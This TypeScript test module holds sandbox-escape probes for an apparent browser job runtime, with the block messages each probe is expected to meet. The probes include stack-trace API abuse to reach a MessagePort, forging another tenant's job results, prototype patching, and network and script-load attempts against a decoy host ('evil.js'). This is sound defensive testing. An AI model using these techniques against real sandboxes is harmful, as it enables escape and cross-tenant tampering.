/**
 * Sandbox escape probes: job code that tries, as an attacker would, to reach the thread
 * runtime's functions, port and state, the network, storage and other origins.
 *
 * Every probe is one input of {@link PROBE_PROGRAM}. A probe that gets something returns
 * `{ escaped: what }`; a probe that is stopped throws, and its message says what stopped it
 * (the engine's own error, a thrower's message, `censored: …` when V8 handed out nothing
 * useful, `[csp: directive]` when the page's policy reported a violation). So a test asserts
 * the reason, not merely that something threw.
 *
 * Each probe also names the protection that stops it (`without`): the spec runs the same probe
 * against a thread runtime built without that protection (`threadSource` of
 * @tabgrid/job-runtime/thread-source, called only by tests) and asserts it then gets through,
 * or is stopped by the next layer instead.
 */
import type { Protections } from '@tabgrid/job-runtime/thread-source';
import { TASK_MODEL_PROBES, TASK_MODEL_PROBE_SOURCE } from './task-model-probes.js';

export const PROBE_PROGRAM =
  // Lossy values: probes report through a result's toJSON, called by the runtime's
  // JSON.stringify after it awaited the result (strict values refuse a function in a result).
  '"tabgrid values: lossy"; ' +
  TASK_MODEL_PROBE_SOURCE +
  String.raw`
const violations = [];
self.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
const settle = () => new Promise((resolve) => setTimeout(resolve, 100));
const nativeText = /\{\s*\[native code\]\s*\}\s*$/;
let program = '';
// A function of the runtime: neither native nor part of this program's text.
function isRuntime(fn) {
  if (typeof fn !== 'function') return false;
  const text = Function.prototype.toString.call(fn);
  return !nativeText.test(text) && !program.includes(text);
}
function describeFn(fn) {
  const text = Function.prototype.toString.call(fn).replace(/\s+/g, ' ');
  return (fn.name || 'anonymous') + ': ' + text.slice(0, 60);
}
function found(fn, how) {
  if (fn === null || fn === undefined) throw new Error('censored: ' + how + ' is ' + fn);
  if (!isRuntime(fn)) throw new Error('censored: ' + how + ' is job code or native');
  return { escaped: how + ' gave the runtime function ' + describeFn(fn) };
}
// What call sites hand out: runtime functions, or receivers that are runtime objects.
function foundIn(sites, how) {
  if (!Array.isArray(sites)) throw new Error('no call sites: ' + how + ' gave a ' + typeof sites);
  const got = [];
  for (const site of sites) {
    const fn = site.getFunction();
    const self_ = site.getThis();
    if (isRuntime(fn)) got.push('function ' + describeFn(fn));
    if (typeof MessagePort === 'function' && self_ instanceof MessagePort) got.push('a MessagePort');
    else if (isRuntime(self_)) got.push('this = ' + describeFn(self_));
  }
  if (got.length === 0) {
    throw new Error('censored: ' + sites.length + ' call sites, no runtime function or receiver');
  }
  return { escaped: got.join('; ') };
}
function stackSites() {
  return new Error('probe').stack;
}
// Every channel at once, for the forged-outcome attack: the first MessagePort found wins.
function findPort() {
  const tried = [];
  try {
    Error.prepareStackTrace = (_e, sites) => sites;
  } catch (error) {
    tried.push(String(error));
  }
  const sites = stackSites();
  if (Array.isArray(sites)) {
    for (const site of sites) {
      const self_ = site.getThis();
      if (self_ instanceof MessagePort) return { port: self_ };
    }
    tried.push('no MessagePort among ' + sites.length + ' call sites');
  } else tried.push('stack is a string');
  return { tried };
}
async function attempt(start) {
  let got;
  let reason;
  try {
    got = String(await start());
  } catch (error) {
    reason = (error && error.name) + ': ' + (error && error.message);
  }
  await settle();
  const csp = violations.splice(0);
  if (reason === undefined) return { escaped: got };
  const colon = reason.indexOf(': ');
  const stopped = new Error(reason.slice(colon + 2) + (csp.length ? ' [csp: ' + csp.join(',') + ']' : ''));
  stopped.name = reason.slice(0, colon);
  throw stopped;
}

// Not async: V8 refuses '.caller' of async functions even in sloppy mode, which would hide
// the hole this probe looks for. Promises returned here are awaited by the runtime.
function Run(probe, args) {
  program = args.program;
  const decoy = 'http://' + args.decoy;
  if (probe.startsWith('tabgrid.')) return taskModelProbe(probe);
  switch (probe) {
    case 'caller':
      return found(Run.caller, 'Run.caller');
    case 'arguments.callee.caller':
      return found(arguments.callee.caller, 'arguments.callee.caller');
    case 'Function.prototype.caller': {
      // A sloppy getter the runtime calls itself (it looks for a 'then' on the result).
      const box = {};
      box.spy = Function('box', 'return function () { box.caller = Object.getOwnPropertyDescriptor(Function.prototype, "caller").get.call(box.spy); }')(box);
      const result = { toJSON: () => found(box.caller, 'the caller of a sloppy getter') };
      Object.defineProperty(result, 'then', { get: box.spy });
      return result;
    }
    case 'prepareStackTrace':
      Error.prepareStackTrace = (_e, sites) => sites;
      return foundIn(stackSites(), 'Error.prepareStackTrace');
    case 'captureStackTrace': {
      Object.defineProperty(Error, 'prepareStackTrace', { value: (_e, sites) => sites, writable: true, configurable: true });
      const holder = {};
      Error.captureStackTrace(holder);
      return foundIn(holder.stack, 'Error.captureStackTrace');
    }
    case 'Promise.prototype.constructor':
      // The runtime awaits its own promises; 'await' reads their constructor.
      Object.defineProperty(Promise.prototype, 'constructor', {
        configurable: true,
        get() { self.leakedPromise = this; return Promise; },
      });
      return 'installed';
    case 'Promise.prototype.constructor:after':
      if (self.leakedPromise) return { escaped: 'a runtime promise reached job code' };
      throw new Error('censored: no runtime promise reached the getter');
    case 'MessageEvent.data':
      // The runtime reads every page message's data; a patched getter would see (and forge) them.
      const original = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
      Object.defineProperty(MessageEvent.prototype, 'data', {
        configurable: true,
        get() { self.seenMessage = true; return original.call(this); },
      });
      return 'installed';
    case 'MessageEvent.data:after':
      if (self.seenMessage) return { escaped: 'a page message reached job code' };
      throw new Error('censored: no page message reached the getter');
    case 'forge': {
      const { port, tried } = findPort();
      if (!port) throw new Error('no port: ' + tried.join('; '));
      // Tenant A's task 0 "finished" with our value, under every chunk id the page may use.
      const outcomes = JSON.stringify({ jobId: args.victim, index: 0, ms: 1, ok: true, value: 'forged' });
      for (let chunkId = 1; chunkId <= 50; chunkId++) {
        port.postMessage({ type: 'results', chunkId, outcomes, count: 1, failures: 0, ms: 1, done: false });
      }
      return { escaped: 'posted forged outcomes for job ' + args.victim + ' on the thread port' };
    }
    case 'fetch':
      return attempt(() => fetch(decoy + '/fetch', { mode: 'no-cors' }));
    case 'WorkerGlobalScope.prototype.fetch':
      return attempt(() => Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'fetch').value.call(self, decoy + '/proto', { mode: 'no-cors' }));
    case 'XMLHttpRequest':
      return attempt(() => new Promise((resolve, reject) => {
        const xhr = new XMLHttpRequest();
        xhr.open('GET', decoy + '/xhr');
        xhr.onload = () => resolve('loaded');
        xhr.onerror = () => reject(new Error('xhr error'));
        xhr.send();
      }));
    case 'WebSocket':
      return attempt(() => new Promise((resolve, reject) => {
        const socket = new WebSocket('ws://' + args.decoy + '/ws');
        socket.onopen = () => resolve('open');
        socket.onerror = () => reject(new Error('websocket error'));
      }));
    case 'EventSource':
      return attempt(() => new Promise((resolve, reject) => {
        const source = new EventSource(decoy + '/events');
        source.onopen = () => resolve('open');
        source.onerror = () => { source.close(); reject(new Error('eventsource error')); };
      }));
    case 'importScripts':
      return attempt(() => { importScripts(decoy + '/evil.js'); return 'imported'; });
    case 'import()':
      return attempt(() => import(decoy + '/evil.mjs'));
    case 'import(data:)':
      return attempt(() => import('data:text/javascript,export default 1'));
    case 'import(server)':
      // The Tabgrid server is 'self' to the policy; it refuses the opaque origin itself.
      return attempt(() => import(args.server + '/api/jobs'));
    case 'Worker':
      return attempt(() => { new Worker('data:text/javascript,postMessage(1)'); return 'a nested Worker started'; });
    case 'sendBeacon':
      return attempt(() => navigator.sendBeacon(decoy + '/beacon', 'x'));
    case 'indexedDB':
      return attempt(() => new Promise((resolve, reject) => {
        const request = indexedDB.open('probe');
        request.onsuccess = () => resolve('opened');
        request.onerror = () => reject(request.error);
      }));
    case 'caches':
      return attempt(() => caches.open('probe').then(() => 'opened'));
    case 'localStorage':
      return attempt(() => localStorage.getItem('x'));
    case 'origin':
      if (self.origin !== 'null') return { escaped: 'origin ' + self.origin };
      throw new Error('opaque origin: ' + self.origin + ', at ' + location.protocol);
  }
  throw new Error('unknown probe ' + probe);
}
`;

type ProtectionName = keyof Protections;

export interface Probe {
  /** The input of PROBE_PROGRAM. */
  name: string;
  /** How the shipped runtime stops it: the failed attempt's message. */
  blocked: RegExp;
  /**
   * The protections it tests, and the verdict once they are off ('escaped: …' or the next
   * layer's reason). Absent: the platform stops it (no switch in the runtime to turn off).
   */
  without?: { protections: ProtectionName[]; verdict: RegExp }[];
  /** An `:after` input that observes, in a later chunk, what this one installed. */
  observe?: string;
  /** The harness tells the thread a message (job.tell) before the probe runs. */
  told?: true;
}

const thrower = (name: string) =>
  new RegExp(`^Error: TG sandbox: ${name} is not available to job code`);

export const PROBES: Probe[] = [
  {
    name: 'caller',
    blocked: /'caller', 'callee', and 'arguments' properties may not be accessed on strict mode/,
    without: [
      { protections: ['strict'], verdict: /^escaped: Run\.caller gave the runtime function/ },
    ],
  },
  {
    name: 'arguments.callee.caller',
    blocked: /'caller', 'callee', and 'arguments' properties may not be accessed on strict mode/,
    without: [{ protections: ['strict'], verdict: /^escaped: arguments\.callee\.caller gave/ }],
  },
  {
    name: 'Function.prototype.caller',
    blocked: /censored: the caller of a sloppy getter is null/,
    without: [{ protections: ['strict'], verdict: /^escaped: the caller of a sloppy getter gave/ }],
  },
  {
    name: 'prepareStackTrace',
    blocked: /^TypeError: Cannot assign to read only property 'prepareStackTrace'/,
    without: [
      {
        protections: ['stackApi'],
        verdict: /^Error: censored: \d+ call sites, no runtime function/,
      },
      { protections: ['stackApi', 'strict'], verdict: /^escaped: .*a MessagePort/ },
    ],
  },
  {
    name: 'captureStackTrace',
    blocked: /^TypeError: Cannot redefine property: prepareStackTrace/,
    without: [
      {
        protections: ['stackApi'],
        verdict: /^Error: censored: \d+ call sites, no runtime function/,
      },
      { protections: ['stackApi', 'strict'], verdict: /^escaped: function / },
    ],
  },
  {
    name: 'Promise.prototype.constructor',
    blocked: /^TypeError: Cannot redefine property: constructor/,
    without: [{ protections: ['intrinsics'], verdict: /^escaped: a runtime promise reached/ }],
    observe: 'Promise.prototype.constructor:after',
  },
  {
    // Captured up front: the patch succeeds and is never consulted.
    name: 'MessageEvent.data',
    blocked: /^Error: censored: no page message reached the getter/,
    without: [{ protections: ['captures'], verdict: /^escaped: a page message reached job code/ }],
    observe: 'MessageEvent.data:after',
  },
  {
    name: 'forge',
    blocked:
      /^Error: no port: TypeError: Cannot assign to read only property 'prepareStackTrace'.*; stack is a string/,
    without: [
      {
        protections: ['stackApi'],
        verdict: /^Error: no port: no MessagePort among \d+ call sites/,
      },
      { protections: ['stackApi', 'strict'], verdict: /^escaped: posted forged outcomes/ },
    ],
  },
  {
    name: 'fetch',
    blocked: thrower('fetch'),
    without: [{ protections: ['throwers'], verdict: /Failed to fetch.*\[csp: connect-src\]/ }],
  },
  {
    name: 'WorkerGlobalScope.prototype.fetch',
    blocked: thrower('fetch'),
    without: [{ protections: ['throwers'], verdict: /Failed to fetch.*\[csp: connect-src\]/ }],
  },
  {
    name: 'XMLHttpRequest',
    blocked: thrower('XMLHttpRequest'),
    without: [{ protections: ['throwers'], verdict: /\[csp: connect-src\]/ }],
  },
  {
    name: 'WebSocket',
    blocked: thrower('WebSocket'),
    without: [{ protections: ['throwers'], verdict: /\[csp: connect-src\]/ }],
  },
  {
    name: 'EventSource',
    blocked: thrower('EventSource'),
    without: [{ protections: ['throwers'], verdict: /\[csp: connect-src\]/ }],
  },
  {
    name: 'importScripts',
    blocked: thrower('importScripts'),
    without: [{ protections: ['throwers'], verdict: /\[csp: script-src/ }],
  },
  {
    name: 'Worker',
    blocked: thrower('Worker'),
    // Nested workers inherit the policy (the bare-worker test shows they get no network).
    without: [{ protections: ['throwers'], verdict: /^escaped: a nested Worker started/ }],
  },
  {
    name: 'indexedDB',
    blocked:
      /^Error: TG sandbox: indexedDB is not available to job code \(tasks run without storage\)/,
    without: [{ protections: ['throwers'], verdict: /^SecurityError: .*denied in this context/ }],
  },
  {
    name: 'caches',
    blocked:
      /^Error: TG sandbox: caches is not available to job code \(tasks run without storage\)/,
    without: [{ protections: ['throwers'], verdict: /^SecurityError/ }],
  },
  // Stopped by the platform and the page's policy, not by a runtime switch.
  { name: 'import()', blocked: /Failed to fetch dynamically imported module.*\[csp: script-src/ },
  {
    name: 'import(data:)',
    blocked: /Failed to fetch dynamically imported module.*\[csp: script-src/,
  },
  {
    name: 'import(server)',
    blocked: /^TypeError: Failed to fetch dynamically imported module(?!.*\[csp)/,
  },
  { name: 'sendBeacon', blocked: /^TypeError: navigator\.sendBeacon is not a function/ },
  { name: 'localStorage', blocked: /^ReferenceError: localStorage is not defined/ },
  { name: 'origin', blocked: /^Error: opaque origin: null, at data:/ },
  ...TASK_MODEL_PROBES,
];

/** A probe's outcome as one line: `escaped: …` or the reason it was stopped. */
export function verdict(outcome: {
  ok: boolean;
  value?: unknown;
  error?: { name: string; message: string };
}): string {
  if (outcome.ok) {
    const value = outcome.value as { escaped?: string } | string;
    return typeof value === 'object' && value?.escaped
      ? `escaped: ${value.escaped}`
      : `returned ${JSON.stringify(value)}`;
  }
  return `${outcome.error?.name ?? 'Error'}: ${outcome.error?.message ?? 'no message'}`;
}
